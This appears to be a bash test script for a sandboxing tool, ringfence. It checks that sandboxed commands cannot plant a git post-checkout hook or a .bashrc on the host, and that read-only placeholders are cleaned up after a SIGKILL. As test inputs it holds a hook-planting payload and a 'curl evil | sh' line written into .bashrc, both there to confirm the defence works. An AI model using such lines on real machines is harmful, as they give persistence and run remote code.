# SPDX-License-Identifier: LGPL-2.1-or-later
# Protected paths that do not exist yet (issue 13, "what did not hold" 1):
# in a repository without hooks, a sandboxed command must not be able to
# plant .git/hooks/post-checkout for the host's next git command. The
# native backend covers the absent path with a read-only placeholder made
# before the start and removed after; nothing stays on the host, also when
# ringfence is SIGKILLed (the next start removes it).
. "$(dirname "$0")/common.bash"

mkdir -p "$WS/.git/info"
echo "[core]" >"$WS/.git/config"
plant='mkdir -p .git/hooks; echo "touch /tmp/pwned" > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout'

expect_exit 1 "planting .git/hooks/post-checkout fails inside" rf run -- sh -c "$plant"
contains "...because .git/hooks is read-only" "$ERR" "Read-only file system"
check "no hook on the host afterwards" test ! -e "$WS/.git/hooks/post-checkout"
check "no placeholder left on the host either (.git/hooks absent again)" test ! -e "$WS/.git/hooks"
expect_exit 0 "control: the rest of .git stays writable (the hook could have been planted elsewhere in it)" \
    rf run -- sh -c 'echo x > .git/info/exclude-test'
check "control: that write reached the host" test -f "$WS/.git/info/exclude-test"
expect_exit 1 "removing or replacing the placeholder fails too" \
    rf run -- sh -c 'rm -rf .git/hooks || mv .git/hooks .git/h2; test ! -e .git/hooks'
expect_exit 0 "the plan names the placeholder" rf plan -- true
contains "plan: placeholder directory" "$OUT" '"placeholder": "directory"'

# SIGKILL of ringfence while the sandbox runs: the placeholder is still
# there (empty); the next start, in any workspace, removes it.
# The sandbox dies with ringfence (its parent-death signal), but not at
# once: the next start leaves a placeholder alone while its sandbox lives,
# so the test waits until that sandbox's sleep (30.PID s: its own) is gone.
"$RINGFENCE" run -- sleep "30.$$" >/dev/null 2>&1 &
rfpid=$!
wait_until 10 test -d "$WS/.git/hooks" || fail "the placeholder appears while the sandbox runs"
{ kill -9 "$rfpid"; wait "$rfpid"; } 2>/dev/null
wait_until 20 sh -c "! pgrep -f 'sleep 30[.]$$' >/dev/null" || fail "the killed ringfence's sandbox ends"
check "after SIGKILL the empty placeholder is still there" test -d "$WS/.git/hooks"
mkdir -p "$SCRATCH/other"
(cd "$SCRATCH/other" && "$RINGFENCE" run -- true) >/dev/null 2>&1
check "the next start (another workspace) removed it" test ! -e "$WS/.git/hooks"
check "and its journal" test -z "$(ls "$RINGFENCE_HOME/placeholders" 2>/dev/null)"

# A placeholder is removed only if it is still ours: a hooks directory the
# user makes meanwhile on the host stays.
"$RINGFENCE" run -- sleep 2 >/dev/null 2>&1 &
rfpid=$!
wait_until 10 test -d "$WS/.git/hooks"
wait "$rfpid"
mkdir -p "$WS/.git/hooks" && echo mine >"$WS/.git/hooks/user-hook"
expect_exit 0 "a start with hooks present" rf run -- true
check "the user's own hooks directory is untouched" test -f "$WS/.git/hooks/user-hook"
rm -rf "$WS/.git/hooks"

# The workspace's top: placeholders there would show in `git status`, so
# absent shell files and configurations get none, and the plan says so.
expect_exit 0 "plan of an ordinary workspace" rf plan -- true
contains "the plan's cannot names the absent top-level paths" "$OUT" "protected paths that do not exist"
contains "...e.g. .ringfence.json" "$OUT" ".ringfence.json"
# A home-like workspace (allowed explicitly) gets them at the top too.
expect_exit 2 "with --allow-sensitive-workspace, .bashrc cannot be planted (sh: exit 2)" \
    env HOME="$WS" "$RINGFENCE" run --allow-sensitive-workspace -- sh -c 'echo "curl evil | sh" > .bashrc'
check "no .bashrc on the host" test ! -e "$WS/.bashrc"
